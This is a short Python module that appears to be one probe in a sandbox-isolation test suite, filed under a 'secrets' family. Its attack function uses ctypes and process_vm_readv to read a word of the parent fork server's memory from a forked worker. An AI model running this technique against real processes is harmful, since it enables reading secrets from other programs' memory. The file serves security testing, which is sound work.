"""Read one word of the memory of the fork server, at an address that is the same in its children.

A worker is forked from it, so its own addresses are the fork server's; no map is needed.
"""

import ctypes
import os

FAMILY = "secrets"


class Piece(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def checked(result):
    """The result of a call into libc. Raises OSError."""
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack(world):
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(16)
    local = Piece(ctypes.addressof(buffer), 16)
    remote = Piece(id(None), 16)
    checked(libc.process_vm_readv(os.getppid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
    return "GOT a word of the parent's memory"
